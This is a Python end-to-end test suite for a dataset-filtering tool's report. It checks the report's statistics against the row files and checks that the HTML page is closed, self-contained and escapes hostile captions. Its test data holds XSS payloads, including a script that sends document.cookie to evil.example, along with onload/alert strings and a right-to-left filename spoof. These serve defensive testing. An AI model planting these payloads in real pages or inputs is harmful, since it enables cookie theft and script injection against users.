"""winnow report's numbers over the rows, recomputed from the row files by other means; and the page: whole, closed, harmless."""
import base64
import collections
import hashlib
import html.parser
import json
import math
import os
import random
import re
import shutil
import unittest

from tests.e2e import browser, make
from tests.e2e.report_test import SCHEMA, faults

HOSTILE = [
    "<script>fetch('//evil.example/?'+document.cookie)</script>", "\" onload=alert(1) x=\"", "'><img src=http://evil.example/x.png>",
    "invoice\u202egnp.exe download now", "</title><style>*{display:none}</style> a caption", "&lt;b&gt; stays as it is", "javascript:alert(1) link",
    "غروب الشمس فوق البحر", "山あいの湖に映る朝の光", "a long one " * 60,
]
HIDDEN = ["a</script><script>alert(1)</script>b", "--><!--<svg onload=alert(1)>", "over \u2066isolated\u2069 and \u200e\u200fmarked \u061c end", "soft\u00ad hyphen, zero\u200bwidth, bom\ufeff",
          "<![CDATA[x]]> &#60;b&#62; &amp;lt;", "${alert(1)} {{7*7}} `x`", "pile \u0301\u0302\u0303\u0304\u0305\u0306 of marks", "wide " + "w" * 900]
RECIPE = """
inputs: [{inputs}]
stages:
  - extract:
  - filter:
      rule: [words text.words min=2, chars text.chars max=60, length url.length max=40, rep text.repetition max=0.4, ending url.extension allow=png]
  - dedup:
      by: url+text
  - fetch:
      size: 64
  - filter:
      rule: [side image.min_side min=30, bytes image.bytes min=300 max=4000, aspect image.aspect max=2.1]
  - shard:
      samples: 40
tasks: {tasks}
"""
SCORED = """
inputs: [{inputs}]
stages:
  - extract:
  - fetch:
      size: 64
  - score:
      classes: laion_nsfw
      classifier: gantman
      cache: ""
  - filter:
      at: all
      allow-substitute: builtin
      rule: [similar score.range column=sim_b32 min=0.01, photo score.range column=p_photo_builtin max=0.5, adult score.range column=p_porn_gantman plus=p_hentai_gantman max=0.3]
  - shard:
tasks: {tasks}
"""


def crawl(seed, hosts=7, pages=40):
    """Pages with captions of all kinds, and pictures of many sizes, some missing."""
    dice = random.Random(seed)
    records, names = [], {}
    for number in range(pages):
        images = []
        for _ in range(dice.randrange(1, 12)):
            host, name = dice.randrange(hosts), dice.randrange(60)
            ending = "png" if name % 13 else "gif"
            url = f"http://img{host}.site{host % 4}.example{'.co.uk' if host % 2 else ''}/{'p' * (name % 17)}{name}.{ending}"
            text = dice.choice(HOSTILE) if dice.random() < 0.15 else " ".join(dice.choice(make.WORDS) for _ in range(min(int(dice.expovariate(0.3)), 30)))
            if dice.random() < 0.2:
                text, url = "a cat on a mat", f"http://img0.site0.example/{'p' * 3}3.png"
            names.setdefault(url, name)
            images.append((url, text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")))
        records.append(make.page(f"http://www{number % 5}.pages.example/{seed}/{number}.html", images))
    for url, name in sorted(names.items()):
        if name % 11 != 10:
            width, height = 25 + name, 20 + name * name % 70
            records.append(make.picture(url, make.png(width, height, name) if name % 5 else make.JPEG))
    return make.packed(records)


def cut(value, down=True):
    """A number's first three decimal digits: the lower edge of its bin."""
    if value == 0:
        return 0
    exponent = math.floor(math.log10(abs(value))) - 2
    scale = lambda m: m * 10 ** exponent if exponent >= 0 else m / 10 ** -exponent
    m = round(abs(value) / 10 ** exponent)
    while scale(m) > abs(value):
        m -= 1
    while scale(m + 1) <= abs(value):
        m += 1
    return scale(m)


class Page(html.parser.HTMLParser):
    """Elements and text of a page."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.text, self.ids, self.open = [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        self.ids += [value for name, value in attributes if name == "id"]
        if tag not in ("meta", "img", "wbr", "input", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            raise AssertionError(f"</{tag}> closes something else at {self.getpos()}")

    def handle_startendtag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        if not self.open or self.open[-1] not in ("script", "style"):
            self.text.append(data)

    @property
    def words(self):
        return re.sub(r"\s+", " ", "".join(self.text).replace("\u202f", " ").replace("\xa0", " "))


class ReportPage(make.InFolder):
    def make_run(self, tasks=2, crawls=None, recipe=RECIPE):
        crawls = crawls if crawls is not None else [crawl(1), crawl(2)]
        for number, data in enumerate(crawls):
            self.write(f"{number}.warc.gz", data)
        self.write("recipe.yaml", recipe.format(inputs=", ".join(f"{n}.warc.gz" for n in range(len(crawls))), tasks=tasks))
        self.winnow("run", "-q", "recipe.yaml")

    def json(self, *arguments):
        report = json.loads(self.winnow("report", "--format", "json", *arguments, "OUT").out)
        self.assertEqual(list(faults(report, SCHEMA)), [])
        return report

    def page(self, *arguments):
        text = self.winnow("report", "--format", "html", *arguments, "OUT").out.decode()
        return text, Page(text)

    def rows(self):
        """Every row once, with its fate: `end` is the step that dropped it, None in the corpus."""
        rows = []
        for folder in sorted(os.listdir(self.path("OUT"))):
            for name in sorted(os.listdir(self.path("OUT", folder))) if os.path.isdir(self.path("OUT", folder)) else []:
                last = folder == "shards.meta" and name.endswith(".rows.zst")
                if last or name.endswith(".dropped.zst"):
                    rows += [dict(row, end=None if last else folder) for row in self.view(f"OUT/{folder}/{name}")]
        for row in rows:
            for column in ("text", "url", "page_url"):
                row[column] = make.unescape(row[column])
        return rows

    def assert_histogram(self, drawn, values, **by_class):
        """`by_class`: name → which of the values (pairs of value and row) it counts."""
        edges = drawn["edges"]
        self.assertEqual(edges, sorted(set(edges)))
        bars = [0] * (len(edges) - 1)
        for name, belongs in by_class.items():
            expected = list(bars)
            for value, row in values:
                if belongs(value, row):
                    bar = sum(value >= edge for edge in edges) - 1
                    expected[min(max(bar, 0), len(bars) - 1)] += 1
            self.assertEqual(drawn[name], expected, name)
        self.assertEqual(drawn["first_holds_less"], any(value < edges[0] for value, _ in values))
        self.assertEqual(drawn["last_holds_more"], any(value >= edges[-1] for value, _ in values))

    def assert_quantity(self, told, values):
        kept = lambda value, row: row["end"] is None
        self.assertEqual(told["rows"], len(values))
        for name, chosen in (("quantiles", [v for v, _ in values]), ("quantiles_kept", [v for v, row in values if row["end"] is None])):
            chosen.sort()
            expected = [cut(chosen[int(share * (len(chosen) - 1))]) for share in (0, 0.05, 0.25, 0.5, 0.75, 0.95, 1)]
            self.assertEqual(told[name], expected, name)
        self.assert_histogram(told["histogram"], values, rows=lambda value, row: True, kept=kept)

    def assert_frequent(self, told, rows, name_of):
        every = collections.Counter(name_of(row) for row in rows)
        kept = collections.Counter(name_of(row) for row in rows if row["end"] is None)
        self.assertTrue(told["exact"])
        self.assertEqual(told["found"], len(every))
        self.assertEqual({item["name"]: (item["rows"], item["kept"]) for item in told["most_frequent"]}, {name: (n, kept[name]) for name, n in every.items()})
        self.assertEqual([item["rows"] for item in told["most_frequent"]], sorted(every.values(), reverse=True))

    def assert_groups(self, told, values, more=0):
        counts = collections.Counter(values)
        starts = [1, 2, 3, 5, 10, 100, 1000, math.inf]
        expected = [{"rows_from": a, "groups": sum(a <= n + more < b for n in counts.values()),
                     "rows": sum(n + more for n in counts.values() if a <= n + more < b)} for a, b in zip(starts, starts[1:])]
        self.assertEqual((told["different"], told["exact"]), (len(counts), True))
        self.assertEqual(told["by_size"], [size for size in expected if size["groups"]])


class Numbers(ReportPage):
    def test_captions_hosts_and_pictures_are_those_of_the_rows(self):
        self.make_run()
        rows, told = self.rows(), self.json()["rows"]
        kept = [row for row in rows if row["end"] is None]
        self.assertGreater(len(kept), 20)
        self.assertEqual((told["read"], told["kept"], told["kept_in"], told["complete"]), (len(rows), len(kept), "shards", True))
        captions = told["captions"]
        self.assertEqual(captions["empty"], sum(not row["text"] for row in rows))
        self.assert_quantity(captions["words"], [(len(row["text"].split()), row) for row in rows])
        self.assert_quantity(captions["characters"], [(len(row["text"]), row) for row in rows])
        self.assert_groups(captions["repeated"], [row["text"] for row in rows])
        self.assert_frequent(captions["frequent"], [row for row in rows if row["text"]], lambda row: row["text"].encode()[:640].decode(errors="ignore"))
        self.assert_frequent(captions["sources"], rows, lambda row: row["text_source"])
        self.assert_frequent(captions["languages"], rows, lambda row: row["page_lang"].split("-")[0].lower())
        host = lambda url: url.split("/")[2]
        domain = lambda url: ".".join(host(url).split(".")[-3 if host(url).endswith("co.uk") else -2:])
        self.assert_frequent(told["hosts"]["hosts"], rows, lambda row: host(row["url"]))
        self.assert_frequent(told["hosts"]["page_domains"], rows, lambda row: domain(row["page_url"]))
        self.assert_groups(told["hosts"]["urls"], [row["url"] for row in rows])
        reached, got = collections.Counter(), collections.Counter()
        for row in rows:
            reached[host(row["url"])] += row["end"] in (None, "04-fetch", "05-filter")
            got[host(row["url"])] += row["end"] in (None, "05-filter")
        for item in told["hosts"]["hosts"]["most_frequent"]:
            self.assertEqual((item["asked"], item["received"]), (reached[item["name"]], got[item["name"]]))

    def test_whom_captions_name_and_who_removes_them(self):
        named = ["Portrait of two WOMEN on a bridge", "A French church in winter", "the buddhist monk’s bowl", "New Zealand, from the sea", "an old new map",
                 "Non-binary persons", "churches of Sri Lanka", "a womanly figure", "zealand new", "", "Ein Mann am See", "the mosque \u2014girls praying"]
        dice = random.Random(9)
        texts = [dice.choice(named) + dice.choice(["", " again", " at night in the rain", ", it is said, and " + "so on " * 9]) for _ in range(300)]
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [(f"http://i.example/{n}.png", text) for n, text in enumerate(texts)])])], tasks=1)
        rows, naming = self.rows(), self.json()["rows"]["captions"]["naming"]
        kinds = ["people", "genders", "nations", "religions"]
        self.assertEqual(naming["lists"], {kind: f"mentions-{kind}" for kind in kinds})
        entries = {}
        for kind in kinds:
            with open(os.path.join(make.ROOT, f"filters/lists/mentions-{kind}.txt"), encoding="utf-8") as file:
                entries[kind] = [line.strip() for line in file if not line.startswith("#")]
            self.assertEqual(entries[kind], sorted(set(entries[kind])))
        find = {kind: re.compile(r"(?<!\w)(" + "|".join(re.escape(entry) for entry in entries[kind]) + r")(?!\w)") for kind in kinds}
        names = lambda row, kind: bool(find[kind].search(re.sub(r"[^\w]+", " ", row["text"].lower())))
        counts = lambda chosen: {"all": len(chosen), **{kind: sum(names(row, kind) for row in chosen) for kind in kinds}}
        self.assertGreater(min(counts(rows).values()), 20)
        self.assertEqual(naming["rows"], counts(rows))
        self.assertEqual(naming["kept"], counts([row for row in rows if row["end"] is None]))
        dropped = collections.defaultdict(list)
        for row in rows:
            if row["end"]:
                dropped[row["end"], row["rule"]].append(row)
        self.assertEqual({(rule["step"], rule["rule"]): rule["removed"] for rule in naming["rules"]}, {key: counts(chosen) for key, chosen in dropped.items()})
        for rule in naming["rules"]:
            self.assertEqual(rule["reached"], counts([row for row in rows if row["end"] is None or row["end"] >= rule["step"]]))
        self.assertIn("Who is removed by what", self.page()[1].words)
        self.assertRegex(self.winnow("report", "--format", "text", "OUT").out.decode(), r"removed by +all +people +genders +nations +religions\n")

    def test_pictures_are_those_of_the_rows(self):
        self.make_run()
        pictures = [row for row in self.rows() if row["end"] in (None, "05-filter")]
        told = self.json()["rows"]["pictures"]
        side = lambda row: (int(row["width"]), int(row["height"]))
        self.assertEqual((told["rows"], told["kept"]), (len(pictures), sum(row["end"] is None for row in pictures)))
        self.assertEqual(told["all_bytes"], sum(int(row["bytes"]) for row in pictures))
        self.assertEqual(told["all_bytes_kept"], sum(int(row["bytes"]) for row in pictures if row["end"] is None))
        self.assert_quantity(told["bytes"], [(int(row["bytes"]), row) for row in pictures])
        self.assert_quantity(told["short_side"], [(min(side(row)), row) for row in pictures])
        self.assert_quantity(told["aspect"], [(side(row)[0] / side(row)[1], row) for row in pictures])
        self.assert_frequent(told["formats"], pictures, lambda row: row["format"])
        self.assert_frequent(told["sizes"], pictures, lambda row: f"{row['width']}x{row['height']}")
        self.assert_frequent(told["http_statuses"], pictures, lambda row: row["http_status"])
        edges = told["width_by_height"]["edges"]
        self.assertTrue(any(edge in (15, 30, 60) for edge in edges), edges)  # the limit of 30 is one
        cell = lambda v: min(max(sum(v >= edge for edge in edges) - 1, 0), len(edges) - 2)
        cells = collections.Counter((cell(side(row)[0]), cell(side(row)[1])) for row in pictures)
        kept = collections.Counter((cell(side(row)[0]), cell(side(row)[1])) for row in pictures if row["end"] is None)
        failed = collections.Counter((cell(side(row)[0]), cell(side(row)[1])) for row in pictures if row["end"] == "05-filter")
        self.assertEqual({(x, y): (n, k, f) for x, y, n, k, f in told["width_by_height"]["cells"]},
                         {at: (n, kept[at], failed[at]) for at, n in cells.items()})

    # rule: step, what it measures, whether a value passes
    MEASURES = {
        "words": ("02-filter", lambda row: len(row["text"].split()), lambda v: v >= 2),
        "chars": ("02-filter", lambda row: len(row["text"]), lambda v: v <= 60),
        "length": ("02-filter", lambda row: len(row["url"]), lambda v: v <= 40),
        "side": ("05-filter", lambda row: min(int(row["width"]), int(row["height"])), lambda v: v >= 30),
        "bytes": ("05-filter", lambda row: int(row["bytes"]), lambda v: 300 <= v <= 4000),
        "aspect": ("05-filter", lambda row: max(int(row["width"]), int(row["height"])) / min(int(row["width"]), int(row["height"])), lambda v: v <= 2.1),
    }

    def test_limits_and_what_others_would_keep(self):
        self.make_run()
        rows, told = self.rows(), self.json()["rows"]
        limits = {limit["rule"]: limit for limit in told["limits"]}
        self.assertEqual([limit["rule"] for limit in told["limits"]], ["words", "chars", "length", "rep", "side", "bytes", "aspect"])
        for rule, (step, measure, passes) in self.MEASURES.items():
            limit = limits[rule]
            reached = [(measure(row), row) for row in rows if row["end"] is None or row["end"] >= step]
            only = lambda value, row: row["end"] == step and row["rule"] == rule and not row["also"]
            self.assertEqual((limit["step"], limit["rows"], limit["disagree"], limit["one_row_in"]), (step, len(reached), 0, 1))
            kept = lambda value, row: row["end"] is None
            self.assert_histogram(limit["histogram"], reached, kept=kept, passed=lambda v, row: passes(v) and not kept(v, row), failed_this_only=only,
                                  failed=lambda v, row: not passes(v) and not only(v, row), marked=lambda v, row: False)
            values = sorted(value for value, _ in reached)
            self.assertEqual(limit["quantiles"][3], cut(values[(len(values) - 1) // 2]))
            self.assertGreater(len(limit["limits"]), 4)
            for option in limit["limits"]:
                sign, number = re.fullmatch(r"([<>]=?)(.*)", option["limit"]).groups()
                bound = float(number)
                holds = {"<=": lambda v: v <= bound, ">=": lambda v: v >= bound, ">": lambda v: v > bound, "<": lambda v: v < bound}[sign]
                if rule == "bytes":  # the other side stays
                    holds = (lambda v, h=holds: h(v) and v <= 4000) if sign == ">=" else (lambda v, h=holds: h(v) and v >= 300)
                self.assertEqual(option["passes"], sum(holds(v) for v, _ in reached), (rule, option))
                self.assertEqual(option["kept"], sum(holds(v) for v, row in reached if kept(v, row)), (rule, option))
                self.assertEqual(option["let_in"], sum(holds(v) for v, row in reached if only(v, row)), (rule, option))

    def test_scores_with_limits_stand_ins_and_labels(self):
        self.make_run(tasks=1, crawls=[crawl(3, pages=14)], recipe=SCORED)
        rows = [row for row in self.rows() if "sim_builtin" in row]
        self.assertGreater(len(rows), 30)
        told = self.json()["rows"]
        limits = {limit["rule"]: limit for limit in told["limits"]}
        measured = {"similar": lambda row: float(row["sim_builtin"]), "photo": lambda row: float(row["p_photo_builtin"]),
                    "adult": lambda row: float(row["p_porn_gantman"]) + float(row["p_hentai_gantman"])}
        self.assertEqual(list(limits), list(measured))
        for rule, value in measured.items():
            limit, values = limits[rule], [value(row) for row in rows]
            self.assertEqual((limit["rows"], limit["without"], limit["disagree"]), (len(rows), 0, 0))
            self.assertEqual(sum(map(sum, (limit["histogram"][name] for name in ("kept", "passed", "failed_this_only", "failed")))), len(rows))
            for option in limit["limits"]:
                bound = float(option["limit"][2:])
                self.assertEqual(option["passes"], sum(x >= bound if option["limit"][0] == ">" else x <= bound for x in values), option)
        self.assertEqual({option["published"] for option in limits["similar"]["limits"]}, {""})  # LAION's are of another model
        self.assertEqual(set(told["labels"]), {"zs_laion_nsfw_builtin", "score_status"})
        for column, labels in told["labels"].items():
            self.assert_frequent(labels, rows, lambda row, column=column: row[column])
        text, words = self.winnow("report", "--format", "text", "OUT").out.decode(), self.page()[1].words
        for said in (text, words):
            self.assertIn("sim_builtin for sim_b32", said)
            self.assertIn("zs_laion_nsfw_builtin", said)
        for said in ("1 on another model’s scores", "part of what adult looks at", "no rule limits it"):
            self.assertIn(said, words)

    def test_published_limits_stand_among_the_others(self):
        self.make_run()
        limits = {limit["rule"]: limit for limit in self.json()["rows"]["limits"]}
        words = {option["limit"]: option["published"] for option in limits["words"]["limits"]}
        self.assertIn("datacomp-basic", words[">=3"])
        side = {option["limit"]: option["published"] for option in limits["side"]["limits"]}
        self.assertIn("datacomp-basic", side[">=200"])
        self.assertEqual([option["limit"] for option in limits["side"]["limits"] if option["own"]], [">=30"])

    def test_nearest_to_a_limit_are_nearest(self):
        self.make_run()
        rows = self.rows()
        for limit in self.json()["rows"]["limits"]:
            if limit["rule"] not in self.MEASURES:
                continue
            step, measure, _ = self.MEASURES[limit["rule"]]
            bounds = {"words": [2], "chars": [60], "length": [40], "side": [30], "bytes": [300, 4000], "aspect": [2.1]}[limit["rule"]]
            distance = lambda row: min(abs(measure(row) - bound) for bound in bounds)
            for key, chosen in (("nearest_kept", [row for row in rows if row["end"] is None]),
                                ("nearest_dropped", [row for row in rows if row["end"] == step and row["rule"] == limit["rule"]])):
                best = {}  # of each picture one
                for row in chosen:
                    best[row["url"]] = min(best.get(row["url"], math.inf), distance(row))
                ids = {row["id"]: row for row in chosen}
                self.assertEqual([distance(ids[x["id"]]) for x in limit[key]], sorted(best.values())[:5], (limit["rule"], key))
                for x in limit[key]:
                    self.assertAlmostEqual(x["value"], measure(ids[x["id"]]), places=12)

    def test_what_was_twice(self):
        self.make_run()
        dropped = [row for row in self.rows() if row["end"] == "03-dedup"]
        (told,) = self.json()["rows"]["duplicates"]
        self.assertGreater(len(dropped), 5)
        self.assert_groups(told["groups"], [row["measured"] for row in dropped], more=1)
        self.assertEqual(sum(size["rows"] - size["groups"] for size in told["groups"]["by_size"]), len(dropped))

    def test_the_number_of_tasks_changes_nothing(self):
        one = two = None
        for tasks in (1, 3):
            self.make_run(tasks=tasks)
            report = self.json()["rows"]
            one, two = two, report
            make.shutil.rmtree(self.path("OUT"))
        self.assertEqual(one, two)

    def test_a_rule_that_is_gone_or_changed_is_told(self):
        self.write("words.txt", "red\ngreen\n")
        self.write("0.warc.gz", crawl(5))
        self.winnow("extract", "-q", "-o", "OUT/01-extract/", "0.warc.gz")
        self.winnow("filter", "-q", "--rule", "flagged text.flagged_ratio max=0.2 list=./words.txt", "-o", "OUT/02-filter/", "OUT/01-extract/00000.rows.zst")
        (limit,) = self.json()["rows"]["limits"]
        self.assertEqual(limit["disagree"], 0)
        self.write("words.txt", "boat\nriver\n")
        (limit,) = self.json()["rows"]["limits"]
        self.assertGreater(limit["disagree"], 0)
        self.assertRegex(self.page()[1].words, r"limits asked again of every row agree with its fate ?\d+ of \d+ answers differ")
        os.unlink(self.path("words.txt"))
        self.assertEqual(self.json()["rows"]["limits"], [])

    def test_bounded_memory_keeps_its_bounds(self):
        dice = random.Random(3)
        texts = [f"caption number {int(dice.paretovariate(0.6))} here" for _ in range(6000)]
        self.write("pairs.tsv", "".join(f"http://h{i % 700}.example/{i}.png\t{text}\n" for i, text in enumerate(texts)))
        self.winnow("import", "-q", "-o", "OUT/01-import/", "pairs.tsv")
        truth = collections.Counter(texts)
        for room in (16, 200, 10000):
            told = self.json("--tally", str(room))["rows"]["captions"]["frequent"]
            self.assertLessEqual(told["found"], max(room, len(truth)))
            self.assertEqual(told["exact"], room == 10000)
            names = {item["name"] for item in told["most_frequent"]}
            for item in told["most_frequent"]:
                self.assertTrue(item["rows"] <= truth[item["name"]] <= item["rows"] + item["missed_at_most"], item)
            for name, n in truth.items():
                self.assertTrue(name in names or n <= told["left_out_at_most"] or len(names) == 1000, (name, n))


class Whole(ReportPage):
    def test_the_page_says_what_the_json_says(self):
        self.make_run()
        report, (_, page) = self.json(), self.page()
        for step in report["steps"]:
            self.assertIn(f"{step['rows']['kept']:,}", page.words)
            for rule in step["rules"]:
                self.assertRegex(page.words, rf"{re.escape(rule['rule'])}.*{rule['removed']:,} ?{100 * rule['removed'] / step['rows']['read']:.1f}")
        rows = report["rows"]
        self.assertIn(f"{rows['kept']:,} samples kept of {rows['read']:,} rows", page.words)
        for what in ("in = kept + dropped, at each step", "rows in the files = rows in the manifests", "dropped rows, rule by rule, likewise",
                     "limits asked again of every row agree with its fate"):
            self.assertIn(what + "holds", page.words)
        for limit in rows["limits"]:
            for option in limit["limits"]:
                if option["own"]:
                    self.assertIn(f"{option['passes']:,}", page.words)
        top = rows["captions"]["frequent"]["most_frequent"][0]
        self.assertIn(f"“{top['name']}”, stands under {top['rows']:,}", page.words)

    def test_the_page_is_closed_and_stands_alone(self):
        self.make_run()
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertEqual(len(page.ids), len(set(page.ids)))
        self.assertEqual([tag for tag, _ in page.tags if tag in ("link", "iframe", "object", "embed", "base", "form", "audio", "video", "source")], [])
        self.assertEqual(sum(tag == "script" for tag, _ in page.tags), 1)
        for tag, attributes in page.tags:
            self.assertFalse([name for name in attributes if name.startswith("on")], attributes)
            if "href" in attributes:
                self.assertTrue(attributes["href"].startswith("#") and attributes["href"][1:] in page.ids, attributes["href"])
            if tag == "img":
                self.assertTrue(base64.b64decode(attributes["src"].removeprefix("data:image/jpeg;base64,"), validate=True).startswith(b"\xff\xd8"))
                self.assertLessEqual(max(int(attributes["width"]), int(attributes["height"])), 144)
            elif tag != "script":
                self.assertNotIn("src", attributes)
        self.assertGreater(sum(tag == "img" for tag, _ in page.tags), 8)
        script = re.search(r"<script>(.*?)</script>", text, re.S)[1]
        (policy,) = [a["content"] for tag, a in page.tags if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        self.assertIn("default-src 'none'", policy)
        self.assertIn(f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'", policy)
        self.assertNotRegex(re.sub(r"data:image/jpeg;base64,[^\"]*", "", text.split("<body>")[0] + script), r"https?://(?!www\.w3\.org/2000/svg)")
        self.assertLess(len(text), 1_000_000)
        for svg, attributes in page.tags:
            if "data-c" in attributes:
                json.loads(attributes["data-c"])

    def test_hostile_captions_are_text(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [(f"http://i.example/{n}.png", text.replace("&", "&amp;").replace('"', "&quot;"))
                                                                            for n, text in enumerate(HOSTILE)])])])
        text, page = self.page()
        self.assertEqual(sum(tag == "script" for tag, _ in page.tags), 1)
        self.assertEqual(sum(tag == "style" for tag, _ in page.tags), 1)
        self.assertIn("<script>fetch('//evil.example/?'+document.cookie)</script>", page.words)  # as text
        self.assertIn("invoiceU+202Egnp.exe", page.words)
        self.assertNotIn("\u202e", text)
        self.assertIn("山あいの湖に映る朝の光", page.words)
        self.assertIn("659 characters", page.words)

    def test_what_hides_in_captions_is_named(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [(f"http://i.example/{n}.png", text.replace("&", "&amp;").replace("<", "&lt;"))
                                                                            for n, text in enumerate(HIDDEN)])])])
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertEqual(sum(tag in ("script", "style") for tag, _ in page.tags), 2)
        self.assertNotIn("onload", [name for _, attributes in page.tags for name in attributes])
        for hidden in "\u2066\u2069\u200e\u200f\u061c\u200b\ufeff\u00ad":
            self.assertNotIn(hidden, text)

    def test_captions_without_end_and_with_controls_stay_small(self):
        """As another program may write them: 100 kB of text, C0 and C1 controls, escapes of escapes."""
        captions = ["x" * 60000, "é" * 30000, "tab\\tline\\nreturn\\rbell\\x07escape\\x1b[31m red", "c1 \\u{9b}31m nel \\u{85} ls \\u{2028}", "back\\\\slash \\\\u{202e}", "\u202e\u202d" * 200]
        self.write("rows.tsv", "id\turl\ttext\tsrc_file\tsrc_record\tsrc_image\tsrc_text\n" +
                   "".join(f"{n:032x}\thttp://h.example/{n}.png\t{text}\t0\t{n}\t0\t0\n" for n, text in enumerate(captions)))
        self.winnow("filter", "-q", "--plain-input", "--rule", "chars text.chars max=50000", "-o", "OUT/01-filter/", "rows.tsv")
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertNotRegex(text, "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
        self.assertIn("60,000 characters", page.words)
        self.assertLess(len(text), 200_000)
        for form in ("json", "text"):
            out = self.winnow("report", "--format", form, "OUT").out.decode()
            self.assertNotRegex(out, "[\x00-\x08\x0b-\x1f\x7f]")

    def test_nothing_came_in(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [])])], tasks=1)
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertIn("Nothing came in", page.words)
        self.assertNotIn("No row reached it", page.words)
        self.assertEqual(re.findall(r'<h2[^>]*><span class="no">(\d+)<', text), ["2", "3", "4", "5"])  # the sections that are there
        self.assertEqual(set(re.findall(r'href="#([^"]+)"', text)) - set(re.findall(r' id="([^"]+)"', text)), set())
        self.assertNotRegex(page.words, r"\bnan\b|\binf\b|-nan")
        self.assertEqual(self.json()["rows"]["read"], 0)

    def test_one_row_and_one_host(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [("http://i.example/1.png", "a cat on the mat")]),
                                           make.picture("http://i.example/1.png", make.png(40, 40, 1))])], tasks=1)
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertIn("1 sample kept of 1 row (100 %)", page.words)
        self.assertIn("All pictures come from one domain, i.example", page.words)
        self.assertNotRegex(text, r"[\"\s,>](-?nan|-?inf)\b")

    def test_without_shards_it_says_how_far_it_came(self):
        self.make_run()
        make.shutil.rmtree(self.path("OUT/shards.meta"))
        os.unlink(self.path("OUT/05-filter/00001.json"))
        _, page = self.page()
        self.assertRegex(page.words, r"[\d,]+ rows? kept so far of")
        self.assertIn("05-filter: 1 of 2 tasks are done", page.words)
        self.assertFalse(self.json()["rows"]["complete"])

    def test_pictures_that_are_gone_are_said_to_be(self):
        self.make_run()
        make.shutil.rmtree(self.path("OUT/packs"))
        make.shutil.rmtree(self.path("OUT/shards"))
        _, page = self.page()
        self.assertEqual(sum(tag == "img" for tag, _ in page.tags), 0)
        self.assertIn("not there any more", page.words)

    def test_unsafe_pictures_are_covered(self):
        self.make_run(recipe=RECIPE.split("  - shard:")[0] + "tasks: {tasks}\n", tasks=1)
        rows = self.winnow("view", "--plain", "OUT/05-filter/00000.rows.zst").out.decode().splitlines()
        images = lambda *arguments: sum(tag == "img" for tag, _ in self.page(*arguments)[1].tags)
        for score in ("p_nsfw_x", "p_porn_gantman", "p_hentai_gantman"):
            self.write("scored.tsv", "".join(line + (f"\t{score}" if i == 0 else f"\t{0.9 if i % 2 else 0.01}") + "\n" for i, line in enumerate(rows)))
            self.winnow("filter", "-q", "--plain-input", "--packs", "OUT/packs", "--rule", f"any score.range column={score} max=1", "-o", "OUT/06-filter/", "scored.tsv")
            self.assertIn("not shown", self.page()[1].words)
            self.assertLess(images(), images("--show-unsafe"))
            shutil.rmtree(self.path("OUT/06-filter"))


@unittest.skipUnless(browser.PROGRAM, "chromium is not installed")
@unittest.skipIf(os.environ.get("WINNOW_VARIANT"), "the page is the same with sanitizers")
class Looks(ReportPage):
    """What a browser makes of it: no width of window scrolls the page sideways, no script and no keyboard is left out."""
    WIDER = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    OUTSIDE = """[...document.querySelectorAll("main p, main dd, main h2, main h3, figure, table")].filter(e => !e.closest(".scroll, pre, svg")
        && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX == "visible" && getComputedStyle(e).display != "inline").map(e => e.outerHTML.slice(0, 120))"""

    def test_every_width_light_and_dark_without_script_and_by_keyboard(self):
        self.make_run()
        self.winnow("report", "-o", "page/", "OUT")
        path = self.path("page/index.html")
        with browser.Browser() as chromium:
            for width in (360, 768, 1280, 1600):
                for dark in (False, True):
                    chromium.open(path, width=width, dark=dark, script=width != 768)
                    self.assertLessEqual(chromium.evaluate(self.WIDER), 0, width)
                    self.assertEqual(chromium.evaluate(self.OUTSIDE), [], width)
            chromium.open(path, script=False)
            self.assertEqual(chromium.evaluate("document.documentElement.classList.contains('js')"), False)
            told = chromium.evaluate("document.body.innerText")
            self.assertIn(f"{self.json()['rows']['kept']:,} samples", told)
            self.assertNotIn("Point at a chart", told)
            chromium.open(path)
            chromium.press("Tab")
            self.assertEqual(chromium.evaluate("document.activeElement.className"), "skip")
            chromium.evaluate("document.querySelector('[role=slider]').focus()")
            before = chromium.evaluate("document.activeElement.getAttribute('aria-valuetext')")
            chromium.press("ArrowRight")
            self.assertNotEqual(chromium.evaluate("document.activeElement.getAttribute('aria-valuetext')"), before)


class Command(ReportPage):
    def test_page_and_json_go_to_the_run_and_text_to_the_terminal(self):
        self.make_run()
        done = self.winnow("report", "OUT")
        self.assertEqual(self.read("OUT/report/index.html"), self.winnow("report", "--format", "html", "OUT").out)
        self.assertEqual(self.read("OUT/report/report.json"), self.winnow("report", "--format", "json", "OUT").out)
        self.assertEqual(done.out, self.winnow("report", "--format", "text", "OUT").out)
        self.assertEqual(done.lines, ["winnow report: OUT/report/index.html: the page, and report.json beside it"])
        self.assertEqual(self.leftovers(), [])
        self.winnow("report", "-o", "else/where/", "OUT")
        self.assertEqual(self.read("else/where/index.html"), self.read("OUT/report/index.html"))

    def test_one_form_is_all_that_is_written(self):
        self.make_run()
        before = make.tree(self.folder)
        for form in ("html", "json", "text"):
            self.winnow("report", "--format", form, "OUT")
        self.winnow("report", "--funnel", "OUT")
        self.assertEqual(make.tree(self.folder), before)

    def test_the_funnel_alone_reads_no_rows(self):
        self.make_run()
        for name in make.tree(self.path("OUT")):
            if name.endswith(".zst"):
                os.unlink(self.path("OUT", name))
